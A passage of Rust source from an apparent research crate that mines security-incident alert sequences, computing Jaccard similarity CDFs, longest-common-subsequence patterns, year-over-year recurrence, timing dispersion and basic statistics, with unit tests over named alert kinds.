        store.add(incident(&[
            PortScan,
            BruteForcePassword,
            DownloadSensitive,
            LogWipe,
            DataExfiltration,
        ]));
        let r = measure_criticality(&store);
        assert_eq!(r.mean_first_critical_position, 1.0);
        assert_eq!(r.mean_preemption_budget, 4.0);
        assert!(r.criticals_come_late());
    }

    #[test]
    fn no_criticals() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        store.add(incident(&[PortScan, LoginFailed]));
        let r = measure_criticality(&store);
        assert_eq!(r.unique_critical_kinds, 0);
        assert_eq!(r.critical_occurrences, 0);
        assert_eq!(r.mean_first_critical_position, 0.0);
    }
}
