//! Pairwise attack similarity (Fig. 3a).
//!
//! Insight 1: *"more than 95% of attacks have up to 33% of similar alerts"*
//! — measured as pairwise Jaccard similarity between the alert-kind sets of
//! incidents, plotted as a CDF. The pairwise sweep is data-parallel over
//! incident pairs (rayon).

use alertlib::store::IncidentStore;
use alertlib::taxonomy::AlertKind;
use rayon::prelude::*;
use simnet::rng::FxHashSet;

use crate::stats::Cdf;

/// Jaccard similarity of two sets: |A∩B| / |A∪B|. Returns 1 for two empty
/// sets (identical by convention).
pub fn jaccard(a: &FxHashSet<AlertKind>, b: &FxHashSet<AlertKind>) -> f64 {
    if a.is_empty() && b.is_empty() {
        return 1.0;
    }
    let inter = a.intersection(b).count();
    let union = a.len() + b.len() - inter;
    inter as f64 / union as f64
}

/// All pairwise similarities between incidents in the store.
pub fn pairwise_similarities(store: &IncidentStore) -> Vec<f64> {
    let sets: Vec<FxHashSet<AlertKind>> = store.iter().map(|i| i.kind_set()).collect();
    let n = sets.len();
    if n < 2 {
        return Vec::new();
    }
    // Parallel over the row index; each row computes its upper-triangle
    // entries. Work per row shrinks with i, but rayon's dynamic splitting
    // balances that.
    (0..n - 1)
        .into_par_iter()
        .flat_map_iter(|i| {
            let sets = &sets;
            (i + 1..n).map(move |j| jaccard(&sets[i], &sets[j]))
        })
        .collect()
}

/// The similarity CDF of Fig. 3a.
pub fn similarity_cdf(store: &IncidentStore) -> Cdf {
    Cdf::new(pairwise_similarities(store))
}

/// The headline statistic of Insight 1: the fraction of pairs whose
/// similarity is at most `threshold` (paper: ≥95% of pairs ≤ 0.33).
pub fn fraction_pairs_below(store: &IncidentStore, threshold: f64) -> f64 {
    similarity_cdf(store).fraction_le(threshold)
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::{Alert, Entity};
    use alertlib::store::{Incident, IncidentId};
    use simnet::time::SimTime;

    fn set(kinds: &[AlertKind]) -> FxHashSet<AlertKind> {
        kinds.iter().copied().collect()
    }

    fn incident(kinds: &[AlertKind]) -> Incident {
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(SimTime::from_secs(i as u64), k, Entity::Unknown));
        }
        inc
    }

    #[test]
    fn jaccard_basics() {
        let a = set(&[AlertKind::PortScan, AlertKind::DownloadSensitive]);
        let b = set(&[AlertKind::PortScan, AlertKind::LogWipe]);
        assert!((jaccard(&a, &b) - 1.0 / 3.0).abs() < 1e-12);
        assert_eq!(jaccard(&a, &a), 1.0);
        let empty = FxHashSet::default();
        assert_eq!(jaccard(&a, &empty), 0.0);
        assert_eq!(jaccard(&empty, &empty), 1.0);
    }

    #[test]
    fn pairwise_count_is_n_choose_2() {
        let mut store = IncidentStore::new();
        for _ in 0..10 {
            store.add(incident(&[AlertKind::PortScan]));
        }
        assert_eq!(pairwise_similarities(&store).len(), 45);
    }

    #[test]
    fn identical_incidents_fully_similar() {
        let mut store = IncidentStore::new();
        store.add(incident(&[AlertKind::PortScan, AlertKind::LogWipe]));
        store.add(incident(&[AlertKind::PortScan, AlertKind::LogWipe]));
        let sims = pairwise_similarities(&store);
        assert_eq!(sims, vec![1.0]);
    }

    #[test]
    fn disjoint_incidents_zero_similarity() {
        let mut store = IncidentStore::new();
        store.add(incident(&[AlertKind::PortScan]));
        store.add(incident(&[AlertKind::LogWipe]));
        assert_eq!(pairwise_similarities(&store), vec![0.0]);
        assert_eq!(fraction_pairs_below(&store, 0.33), 1.0);
    }

    #[test]
    fn single_incident_no_pairs() {
        let mut store = IncidentStore::new();
        store.add(incident(&[AlertKind::PortScan]));
        assert!(pairwise_similarities(&store).is_empty());
    }
}
