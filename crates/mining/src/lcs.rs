//! Longest-common-subsequence pattern mining (Fig. 3b).
//!
//! Insight 2 identifies "common alert sequences (named from S1 to S43)"
//! via longest common subsequences between incident alert sequences
//! (the paper cites the NIST LCS definition [15]). This module provides:
//!
//! - the classic O(n·m) LCS DP over arbitrary `Eq` tokens,
//! - a miner that extracts the common patterns across an incident corpus,
//!   counts each pattern's support (how many incidents contain it as a
//!   subsequence), and names them `S1..Sk` in support order.

use alertlib::store::IncidentStore;
use alertlib::taxonomy::AlertKind;
use rayon::prelude::*;
use simnet::rng::FxHashMap;

/// Length of the longest common subsequence of two token slices.
pub fn lcs_length<T: Eq>(a: &[T], b: &[T]) -> usize {
    if a.is_empty() || b.is_empty() {
        return 0;
    }
    // Rolling single-row DP: O(min(n,m)) space.
    let (short, long) = if a.len() <= b.len() { (a, b) } else { (b, a) };
    let mut row = vec![0usize; short.len() + 1];
    for x in long {
        let mut prev_diag = 0;
        for (j, y) in short.iter().enumerate() {
            let up = row[j + 1];
            row[j + 1] = if x == y {
                prev_diag + 1
            } else {
                up.max(row[j])
            };
            prev_diag = up;
        }
    }
    row[short.len()]
}

/// One longest common subsequence of two token slices (ties broken by the
/// standard backtrack preferring matches late in `a`).
pub fn lcs<T: Eq + Clone>(a: &[T], b: &[T]) -> Vec<T> {
    let n = a.len();
    let m = b.len();
    if n == 0 || m == 0 {
        return Vec::new();
    }
    let mut dp = vec![0u32; (n + 1) * (m + 1)];
    let idx = |i: usize, j: usize| i * (m + 1) + j;
    for i in 1..=n {
        for j in 1..=m {
            dp[idx(i, j)] = if a[i - 1] == b[j - 1] {
                dp[idx(i - 1, j - 1)] + 1
            } else {
                dp[idx(i - 1, j)].max(dp[idx(i, j - 1)])
            };
        }
    }
    let mut out = Vec::with_capacity(dp[idx(n, m)] as usize);
    let (mut i, mut j) = (n, m);
    while i > 0 && j > 0 {
        if a[i - 1] == b[j - 1] {
            out.push(a[i - 1].clone());
            i -= 1;
            j -= 1;
        } else if dp[idx(i - 1, j)] >= dp[idx(i, j - 1)] {
            i -= 1;
        } else {
            j -= 1;
        }
    }
    out.reverse();
    out
}

/// Whether `needle` occurs as a (possibly gapped) subsequence of `haystack`.
pub fn is_subsequence<T: Eq>(needle: &[T], haystack: &[T]) -> bool {
    let mut it = needle.iter();
    let mut next = it.next();
    for x in haystack {
        match next {
            Some(n) if n == x => next = it.next(),
            Some(_) => {}
            None => return true,
        }
    }
    next.is_none()
}

/// A mined common alert sequence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommonPattern {
    /// 1-based rank: pattern `S{rank}` of Fig. 3b.
    pub rank: usize,
    /// The alert-kind sequence.
    pub seq: Vec<AlertKind>,
    /// Number of incidents containing the sequence as a subsequence.
    pub support: usize,
}

impl CommonPattern {
    /// The paper's name for this pattern (`S1`, `S2`, …).
    pub fn name(&self) -> String {
        format!("S{}", self.rank)
    }

    pub fn len(&self) -> usize {
        self.seq.len()
    }

    pub fn is_empty(&self) -> bool {
        self.seq.is_empty()
    }
}

/// How pattern support is counted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SupportMode {
    /// Number of incidents containing the pattern as a subsequence. Broad:
    /// a short motif shared across families scores its full prevalence
    /// (used for the "S1 in 60.08% of incidents" claim).
    Subsequence,
    /// Number of incidents whose pairwise LCS with at least one *other*
    /// incident is exactly this pattern — i.e., incidents where this was
    /// the shared signature. This is Fig. 3b's "count of LCS in our
    /// dataset": a family of 14 incidents sharing a signature counts 14.
    LcsPeers,
}

/// Mining parameters.
#[derive(Debug, Clone)]
pub struct MinerConfig {
    /// Minimum pattern length to keep (paper: ≥ 2; single alerts are
    /// sudden attacks outside the model's effective range).
    pub min_len: usize,
    /// Maximum pattern length to keep (paper observes up to 14).
    pub max_len: usize,
    /// Minimum support (number of containing incidents).
    pub min_support: usize,
    /// Cap on the number of returned patterns (paper reports 43).
    pub max_patterns: usize,
    /// Support counting mode.
    pub support: SupportMode,
}

impl Default for MinerConfig {
    fn default() -> Self {
        MinerConfig {
            min_len: 2,
            max_len: 14,
            min_support: 2,
            max_patterns: 43,
            support: SupportMode::Subsequence,
        }
    }
}

/// Mine common patterns from an incident corpus.
///
/// Candidates are the pairwise LCSs of incident alert sequences (computed
/// in parallel); support of each deduplicated candidate is the number of
/// incidents containing it as a subsequence. Results are sorted by
/// descending support (then shorter first, then lexicographic by kind
/// index) and named `S1..Sk`.
pub fn mine_common_patterns(store: &IncidentStore, cfg: &MinerConfig) -> Vec<CommonPattern> {
    let seqs: Vec<Vec<AlertKind>> = store.iter().map(|i| i.kind_sequence()).collect();
    let n = seqs.len();
    if n < 2 {
        return Vec::new();
    }
    // Pairwise LCS candidates, parallel over rows, keeping the pair that
    // produced each candidate (needed for LcsPeers support).
    let candidates: Vec<(usize, usize, Vec<AlertKind>)> = (0..n - 1)
        .into_par_iter()
        .flat_map_iter(|i| {
            let seqs = &seqs;
            (i + 1..n).map(move |j| (i, j, lcs(&seqs[i], &seqs[j])))
        })
        .filter(|(_, _, c)| c.len() >= cfg.min_len && c.len() <= cfg.max_len)
        .collect();

    let mut scored: Vec<(Vec<AlertKind>, usize)> = match cfg.support {
        SupportMode::Subsequence => {
            let mut uniq: FxHashMap<Vec<AlertKind>, ()> = FxHashMap::default();
            for (_, _, c) in candidates {
                uniq.entry(c).or_insert(());
            }
            let uniq: Vec<Vec<AlertKind>> = uniq.into_keys().collect();
            uniq.into_par_iter()
                .map(|cand| {
                    let support = seqs.iter().filter(|s| is_subsequence(&cand, s)).count();
                    (cand, support)
                })
                .collect()
        }
        SupportMode::LcsPeers => {
            // For each distinct pattern, the set of incidents that shared
            // exactly this sequence with some peer.
            let mut members: FxHashMap<Vec<AlertKind>, Vec<usize>> = FxHashMap::default();
            for (i, j, c) in candidates {
                let entry = members.entry(c).or_default();
                entry.push(i);
                entry.push(j);
            }
            members
                .into_iter()
                .map(|(cand, mut incidents)| {
                    incidents.sort_unstable();
                    incidents.dedup();
                    (cand, incidents.len())
                })
                .collect()
        }
    };
    scored.retain(|(_, s)| *s >= cfg.min_support);

    scored.sort_by(|(sa, ca), (sb, cb)| {
        cb.cmp(ca)
            .then_with(|| sa.len().cmp(&sb.len()))
            .then_with(|| {
                let ka: Vec<usize> = sa.iter().map(|k| k.index()).collect();
                let kb: Vec<usize> = sb.iter().map(|k| k.index()).collect();
                ka.cmp(&kb)
            })
    });
    scored.truncate(cfg.max_patterns);
    scored
        .into_iter()
        .enumerate()
        .map(|(i, (seq, support))| CommonPattern {
            rank: i + 1,
            seq,
            support,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::{Alert, Entity};
    use alertlib::store::{Incident, IncidentId};
    use simnet::time::SimTime;

    #[test]
    fn lcs_length_classics() {
        assert_eq!(lcs_length(b"ABCBDAB", b"BDCABA"), 4);
        assert_eq!(lcs_length(b"", b"xyz"), 0);
        assert_eq!(lcs_length(b"abc", b"abc"), 3);
        assert_eq!(lcs_length(b"abc", b"def"), 0);
    }

    #[test]
    fn lcs_reconstruction_is_valid() {
        let a = b"ABCBDAB".to_vec();
        let b = b"BDCABA".to_vec();
        let s = lcs(&a, &b);
        assert_eq!(s.len(), lcs_length(&a, &b));
        assert!(is_subsequence(&s, &a));
        assert!(is_subsequence(&s, &b));
    }

    #[test]
    fn subsequence_checks() {
        assert!(is_subsequence(b"ace", b"abcde"));
        assert!(!is_subsequence(b"aec", b"abcde"));
        assert!(is_subsequence(b"", b"abc"));
        assert!(!is_subsequence(b"a", b""));
    }

    fn incident(kinds: &[AlertKind]) -> Incident {
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(SimTime::from_secs(i as u64), k, Entity::Unknown));
        }
        inc
    }

    #[test]
    fn mining_finds_shared_motif() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        // The S1 motif with different noise around it.
        for extra in [PortScan, BruteForcePassword, VulnScan, LoginFailed] {
            store.add(incident(&[
                extra,
                DownloadSensitive,
                CompileKernelModule,
                LogWipe,
            ]));
        }
        // One unrelated incident.
        store.add(incident(&[SqlInjectionProbe, DataExfiltration]));
        let patterns = mine_common_patterns(&store, &MinerConfig::default());
        assert!(!patterns.is_empty());
        let top = &patterns[0];
        assert_eq!(top.name(), "S1");
        assert_eq!(
            top.seq,
            vec![DownloadSensitive, CompileKernelModule, LogWipe]
        );
        assert_eq!(top.support, 4);
    }

    #[test]
    fn min_support_filters_rare_patterns() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        store.add(incident(&[PortScan, LogWipe]));
        store.add(incident(&[PortScan, LogWipe]));
        store.add(incident(&[SqlInjectionProbe, RansomNoteDropped]));
        let cfg = MinerConfig {
            min_support: 3,
            ..Default::default()
        };
        let patterns = mine_common_patterns(&store, &cfg);
        assert!(patterns.is_empty());
    }

    #[test]
    fn pattern_cap_respected() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        // Many distinct pairwise motifs.
        let kinds = [
            PortScan,
            VulnScan,
            BruteForcePassword,
            DownloadSensitive,
            CompileSource,
            LogWipe,
            HistoryCleared,
            SshKeyEnumeration,
        ];
        for i in 0..kinds.len() {
            for j in 0..kinds.len() {
                if i != j {
                    store.add(incident(&[kinds[i], kinds[j]]));
                }
            }
        }
        let cfg = MinerConfig {
            max_patterns: 5,
            min_support: 2,
            ..Default::default()
        };
        let patterns = mine_common_patterns(&store, &cfg);
        assert!(patterns.len() <= 5);
        // Ranks are 1-based and ordered by support.
        for (i, p) in patterns.iter().enumerate() {
            assert_eq!(p.rank, i + 1);
            if i > 0 {
                assert!(patterns[i - 1].support >= p.support);
            }
        }
    }
}
