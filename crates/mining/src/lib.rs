//! # mining — longitudinal measurement analytics
//!
//! The analyses of §II-C, which extract the paper's four insights from the
//! incident corpus:
//!
//! - [`jaccard`] — pairwise attack similarity CDF (Fig. 3a, Insight 1).
//! - [`lcs`] — longest-common-subsequence pattern mining, producing the
//!   `S1..S43` common sequences and their counts (Fig. 3b, Insight 2).
//! - [`timing`] — automated-vs-manual inter-alert timing dispersion
//!   (Insight 3).
//! - [`criticality`] — critical-alert counts and lateness (Insight 4).
//! - [`recur`] — pattern recurrence across years (the 2002→2024 S1 claim).
//! - [`stats`] — CDF / histogram / summary primitives.

pub mod criticality;
pub mod jaccard;
pub mod lcs;
pub mod recur;
pub mod stats;
pub mod timing;

pub use criticality::{measure_criticality, CriticalityReport};
pub use jaccard::{fraction_pairs_below, jaccard, pairwise_similarities, similarity_cdf};
pub use lcs::{is_subsequence, lcs, lcs_length, mine_common_patterns, CommonPattern, MinerConfig};
pub use recur::{measure_recurrence, s1_pattern, Recurrence};
pub use stats::{Cdf, Histogram, Summary};
pub use timing::{compare_phase_timing, inter_arrival_secs, split_phases, TimingComparison};
