//! Pattern recurrence across years (experiment E6).
//!
//! §I: the S1 pattern "first observed in 2002, continues to appear in
//! attacks as of 2024 and was found in 60.08% (137 out of more than 200) of
//! past security incidents." This module measures, for an alert-kind
//! subsequence, which incidents/years contain it.

use alertlib::store::IncidentStore;
use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};

/// Recurrence measurement of one pattern over a corpus.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Recurrence {
    /// Incidents containing the pattern.
    pub hits: usize,
    /// Total incidents in the corpus.
    pub total: usize,
    /// First calendar year the pattern appears in.
    pub first_year: Option<i32>,
    /// Last calendar year the pattern appears in.
    pub last_year: Option<i32>,
    /// Distinct years with at least one containing incident.
    pub years: Vec<i32>,
}

impl Recurrence {
    /// Fraction of incidents containing the pattern (paper: 60.08%).
    pub fn support_fraction(&self) -> f64 {
        if self.total == 0 {
            return 0.0;
        }
        self.hits as f64 / self.total as f64
    }

    /// Years between first and last appearance, inclusive.
    pub fn span_years(&self) -> Option<i32> {
        Some(self.last_year? - self.first_year? + 1)
    }
}

/// Measure recurrence of an alert-kind subsequence over the corpus.
pub fn measure_recurrence(store: &IncidentStore, pattern: &[AlertKind]) -> Recurrence {
    let mut years = Vec::new();
    let mut hits = 0;
    for inc in store.iter() {
        if inc.contains_subsequence(pattern) {
            hits += 1;
            years.push(inc.year);
        }
    }
    years.sort_unstable();
    years.dedup();
    Recurrence {
        hits,
        total: store.len(),
        first_year: years.first().copied(),
        last_year: years.last().copied(),
        years,
    }
}

/// The canonical S1 pattern of the paper: download source over unsecured
/// HTTP → compile as kernel module → erase the forensic trace.
pub fn s1_pattern() -> Vec<AlertKind> {
    vec![
        AlertKind::DownloadSensitive,
        AlertKind::CompileKernelModule,
        AlertKind::LogWipe,
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::{Alert, Entity};
    use alertlib::store::{Incident, IncidentId};
    use simnet::time::SimTime;

    fn incident(year: i32, kinds: &[AlertKind]) -> Incident {
        let mut inc = Incident::new(IncidentId(0), "t", year);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(SimTime::from_secs(i as u64), k, Entity::Unknown));
        }
        inc
    }

    #[test]
    fn recurrence_counts_and_span() {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        store.add(incident(
            2002,
            &[PortScan, DownloadSensitive, CompileKernelModule, LogWipe],
        ));
        store.add(incident(2010, &[SqlInjectionProbe]));
        store.add(incident(
            2024,
            &[DownloadSensitive, VulnScan, CompileKernelModule, LogWipe],
        ));
        let r = measure_recurrence(&store, &s1_pattern());
        assert_eq!(r.hits, 2);
        assert_eq!(r.total, 3);
        assert_eq!(r.first_year, Some(2002));
        assert_eq!(r.last_year, Some(2024));
        assert_eq!(r.span_years(), Some(23));
        assert!((r.support_fraction() - 2.0 / 3.0).abs() < 1e-12);
        assert_eq!(r.years, vec![2002, 2024]);
    }

    #[test]
    fn empty_store() {
        let store = IncidentStore::new();
        let r = measure_recurrence(&store, &s1_pattern());
        assert_eq!(r.hits, 0);
        assert_eq!(r.support_fraction(), 0.0);
        assert!(r.span_years().is_none());
    }
}
