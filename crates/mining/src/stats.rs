//! Descriptive statistics: CDFs, histograms, summaries.
//!
//! These are the plotting primitives behind Fig. 2 (daily alert series) and
//! Fig. 3 (similarity CDF, LCS count histogram).

use serde::{Deserialize, Serialize};

/// An empirical cumulative distribution function over `f64` samples.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Cdf {
    sorted: Vec<f64>,
}

impl Cdf {
    /// Build from samples (NaNs are dropped).
    pub fn new(mut samples: Vec<f64>) -> Cdf {
        samples.retain(|x| !x.is_nan());
        samples.sort_by(|a, b| a.partial_cmp(b).expect("no NaNs after filter"));
        Cdf { sorted: samples }
    }

    pub fn len(&self) -> usize {
        self.sorted.len()
    }

    pub fn is_empty(&self) -> bool {
        self.sorted.is_empty()
    }

    /// Fraction of samples ≤ `x`.
    pub fn fraction_le(&self, x: f64) -> f64 {
        if self.sorted.is_empty() {
            return 0.0;
        }
        let idx = self.sorted.partition_point(|&v| v <= x);
        idx as f64 / self.sorted.len() as f64
    }

    /// The `q`-quantile (0 ≤ q ≤ 1), by nearest-rank.
    pub fn quantile(&self, q: f64) -> f64 {
        assert!(!self.sorted.is_empty(), "quantile of empty CDF");
        let q = q.clamp(0.0, 1.0);
        let rank = ((q * self.sorted.len() as f64).ceil() as usize).clamp(1, self.sorted.len());
        self.sorted[rank - 1]
    }

    /// Evenly spaced `(x, F(x))` points for plotting.
    pub fn plot_points(&self, n: usize) -> Vec<(f64, f64)> {
        if self.sorted.is_empty() || n == 0 {
            return Vec::new();
        }
        let lo = self.sorted[0];
        let hi = *self.sorted.last().expect("non-empty");
        (0..=n)
            .map(|i| {
                let x = lo + (hi - lo) * i as f64 / n as f64;
                (x, self.fraction_le(x))
            })
            .collect()
    }

    /// Minimum sample.
    pub fn min(&self) -> Option<f64> {
        self.sorted.first().copied()
    }

    /// Maximum sample.
    pub fn max(&self) -> Option<f64> {
        self.sorted.last().copied()
    }
}

/// A fixed-bin histogram over integer categories (e.g. pattern indices).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Histogram {
    counts: Vec<u64>,
}

impl Histogram {
    pub fn new(bins: usize) -> Histogram {
        Histogram {
            counts: vec![0; bins],
        }
    }

    pub fn add(&mut self, bin: usize) {
        self.counts[bin] += 1;
    }

    pub fn add_n(&mut self, bin: usize, n: u64) {
        self.counts[bin] += n;
    }

    pub fn count(&self, bin: usize) -> u64 {
        self.counts[bin]
    }

    pub fn counts(&self) -> &[u64] {
        &self.counts
    }

    pub fn total(&self) -> u64 {
        self.counts.iter().sum()
    }

    /// Bin with the largest count.
    pub fn mode(&self) -> Option<usize> {
        if self.counts.is_empty() {
            return None;
        }
        let mut best = 0;
        for (i, &c) in self.counts.iter().enumerate() {
            if c > self.counts[best] {
                best = i;
            }
        }
        Some(best)
    }
}

/// Mean / standard deviation / extrema of a sample.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Summary {
    pub n: usize,
    pub mean: f64,
    pub std_dev: f64,
    pub min: f64,
    pub max: f64,
}

impl Summary {
    /// Compute from samples. Returns `None` on an empty slice.
    pub fn of(samples: &[f64]) -> Option<Summary> {
        if samples.is_empty() {
            return None;
        }
        let n = samples.len();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let var = samples.iter().map(|x| (x - mean).powi(2)).sum::<f64>() / n as f64;
        let mut min = f64::INFINITY;
        let mut max = f64::NEG_INFINITY;
        for &s in samples {
            min = min.min(s);
            max = max.max(s);
        }
        Some(Summary {
            n,
            mean,
            std_dev: var.sqrt(),
            min,
            max,
        })
    }

    /// Coefficient of variation (σ/μ) — the dispersion measure behind
    /// Insight 3's "timing variability" distinction.
    pub fn cv(&self) -> f64 {
        if self.mean == 0.0 {
            return 0.0;
        }
        self.std_dev / self.mean
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cdf_fractions() {
        let c = Cdf::new(vec![1.0, 2.0, 3.0, 4.0]);
        assert_eq!(c.fraction_le(0.5), 0.0);
        assert_eq!(c.fraction_le(2.0), 0.5);
        assert_eq!(c.fraction_le(10.0), 1.0);
        assert_eq!(c.len(), 4);
        assert_eq!(c.min(), Some(1.0));
        assert_eq!(c.max(), Some(4.0));
    }

    #[test]
    fn cdf_quantiles() {
        let c = Cdf::new((1..=100).map(|i| i as f64).collect());
        assert_eq!(c.quantile(0.5), 50.0);
        assert_eq!(c.quantile(0.95), 95.0);
        assert_eq!(c.quantile(0.0), 1.0);
        assert_eq!(c.quantile(1.0), 100.0);
    }

    #[test]
    fn cdf_handles_nan_and_unsorted() {
        let c = Cdf::new(vec![3.0, f64::NAN, 1.0, 2.0]);
        assert_eq!(c.len(), 3);
        assert_eq!(c.fraction_le(1.5), 1.0 / 3.0);
    }

    #[test]
    fn plot_points_monotone() {
        let c = Cdf::new(vec![0.1, 0.2, 0.33, 0.9, 1.0]);
        let pts = c.plot_points(10);
        assert_eq!(pts.len(), 11);
        for w in pts.windows(2) {
            assert!(w[1].1 >= w[0].1, "CDF must be monotone");
        }
        assert!((pts.last().unwrap().1 - 1.0).abs() < 1e-12);
    }

    #[test]
    fn histogram_counts_and_mode() {
        let mut h = Histogram::new(5);
        h.add(0);
        h.add(2);
        h.add(2);
        h.add_n(4, 10);
        assert_eq!(h.count(2), 2);
        assert_eq!(h.total(), 13);
        assert_eq!(h.mode(), Some(4));
        assert_eq!(h.counts().len(), 5);
    }

    #[test]
    fn summary_moments() {
        let s = Summary::of(&[2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0]).unwrap();
        assert!((s.mean - 5.0).abs() < 1e-12);
        assert!((s.std_dev - 2.0).abs() < 1e-12);
        assert_eq!(s.min, 2.0);
        assert_eq!(s.max, 9.0);
        assert!((s.cv() - 0.4).abs() < 1e-12);
        assert!(Summary::of(&[]).is_none());
    }
}
