//! Alert timing analysis (Insight 3).
//!
//! *"Attacks in the wild often start with a set of repetitive but
//! inconclusive alerts ... once an attacker identified a target, they would
//! manually carry out the attack. Thus, the time between alerts in this
//! stage exhibits significant variability."*
//!
//! We split each incident's alert stream into the *automated* phase
//! (noise/attempt severities: scans, brute force) and the *manual* phase
//! (significant and critical alerts) and compare inter-arrival gap
//! dispersion (coefficient of variation) between the two.

use alertlib::alert::Alert;
use alertlib::store::IncidentStore;
use alertlib::taxonomy::Severity;
use serde::{Deserialize, Serialize};

use crate::stats::Summary;

/// Inter-arrival gaps (seconds) between consecutive alerts.
pub fn inter_arrival_secs(alerts: &[Alert]) -> Vec<f64> {
    alerts
        .windows(2)
        .map(|w| w[1].ts.saturating_since(w[0].ts).as_secs_f64())
        .collect()
}

/// Timing profile of one phase.
#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
pub struct PhaseTiming {
    /// Number of gaps measured.
    pub gaps: usize,
    pub mean_gap_secs: f64,
    pub std_gap_secs: f64,
    /// Coefficient of variation (σ/μ): the paper's dispersion signal.
    pub cv: f64,
}

impl PhaseTiming {
    fn from_gaps(gaps: &[f64]) -> Option<PhaseTiming> {
        let s = Summary::of(gaps)?;
        Some(PhaseTiming {
            gaps: s.n,
            mean_gap_secs: s.mean,
            std_gap_secs: s.std_dev,
            cv: s.cv(),
        })
    }
}

/// Automated-vs-manual timing comparison across a corpus.
#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
pub struct TimingComparison {
    pub automated: PhaseTiming,
    pub manual: PhaseTiming,
}

impl TimingComparison {
    /// Insight 3's qualitative claim: the manual stage is more variable.
    pub fn manual_more_variable(&self) -> bool {
        self.manual.cv > self.automated.cv
    }
}

/// Split an incident's alerts into (automated, manual) sub-streams.
pub fn split_phases(alerts: &[Alert]) -> (Vec<&Alert>, Vec<&Alert>) {
    let mut auto = Vec::new();
    let mut manual = Vec::new();
    for a in alerts {
        match a.severity() {
            Severity::Noise | Severity::Attempt => auto.push(a),
            Severity::Significant | Severity::Critical => manual.push(a),
            Severity::Info => {}
        }
    }
    (auto, manual)
}

/// Phase class of one alert for timing purposes.
fn phase_class(a: &Alert) -> Option<bool> {
    // true = automated, false = manual. `Attempt` alerts are excluded:
    // a probe can be fired by a scanner or typed by a human mid-attack,
    // so they measure neither cadence cleanly.
    match a.severity() {
        Severity::Noise => Some(true),
        Severity::Significant | Severity::Critical => Some(false),
        Severity::Info | Severity::Attempt => None,
    }
}

/// Compare automated vs manual inter-arrival dispersion over all incidents.
///
/// Only gaps between *consecutive alerts of the same phase* count: a gap
/// spanning the automated→manual hand-off measures neither tool cadence
/// nor human cadence and would contaminate both distributions.
/// Returns `None` if either phase has fewer than two gaps corpus-wide.
pub fn compare_phase_timing(store: &IncidentStore) -> Option<TimingComparison> {
    let mut auto_gaps = Vec::new();
    let mut manual_gaps = Vec::new();
    for inc in store.iter() {
        for w in inc.alerts.windows(2) {
            let (Some(a), Some(b)) = (phase_class(&w[0]), phase_class(&w[1])) else {
                continue;
            };
            if a != b {
                continue;
            }
            let gap = w[1].ts.saturating_since(w[0].ts).as_secs_f64();
            if a {
                auto_gaps.push(gap);
            } else {
                manual_gaps.push(gap);
            }
        }
    }
    Some(TimingComparison {
        automated: PhaseTiming::from_gaps(&auto_gaps)?,
        manual: PhaseTiming::from_gaps(&manual_gaps)?,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::Entity;
    use alertlib::store::{Incident, IncidentId};
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn alert(t: u64, kind: AlertKind) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::Unknown)
    }

    #[test]
    fn gaps_computed() {
        let alerts = vec![
            alert(0, AlertKind::PortScan),
            alert(10, AlertKind::PortScan),
            alert(40, AlertKind::PortScan),
        ];
        assert_eq!(inter_arrival_secs(&alerts), vec![10.0, 30.0]);
        assert!(inter_arrival_secs(&alerts[..1]).is_empty());
    }

    #[test]
    fn phase_split_by_severity() {
        let alerts = vec![
            alert(0, AlertKind::PortScan),            // Noise → automated
            alert(1, AlertKind::BruteForcePassword),  // Attempt → automated
            alert(2, AlertKind::LoginSuccess),        // Info → neither
            alert(3, AlertKind::DownloadSensitive),   // Significant → manual
            alert(4, AlertKind::PrivilegeEscalation), // Critical → manual
        ];
        let (auto, manual) = split_phases(&alerts);
        assert_eq!(auto.len(), 2);
        assert_eq!(manual.len(), 2);
    }

    #[test]
    fn manual_phase_more_variable_in_constructed_corpus() {
        let mut store = IncidentStore::new();
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        // Automated: metronome probes every 5 s (CV ≈ 0).
        for i in 0..20u64 {
            inc.push_alert(alert(i * 5, AlertKind::PortScan));
        }
        // Manual: wildly varying gaps.
        let manual_times = [200u64, 210, 400, 2_000, 2_010, 9_000];
        for (i, &t) in manual_times.iter().enumerate() {
            let k = if i % 2 == 0 {
                AlertKind::DownloadSensitive
            } else {
                AlertKind::LogWipe
            };
            inc.push_alert(alert(t, k));
        }
        store.add(inc);
        let cmp = compare_phase_timing(&store).unwrap();
        assert!(
            cmp.automated.cv < 0.01,
            "metronome CV ~0, got {}",
            cmp.automated.cv
        );
        assert!(cmp.manual_more_variable());
        assert!(cmp.manual.cv > 0.5);
    }

    #[test]
    fn insufficient_gaps_yield_none() {
        let mut store = IncidentStore::new();
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        inc.push_alert(alert(0, AlertKind::PortScan));
        store.add(inc);
        assert!(compare_phase_timing(&store).is_none());
    }
}
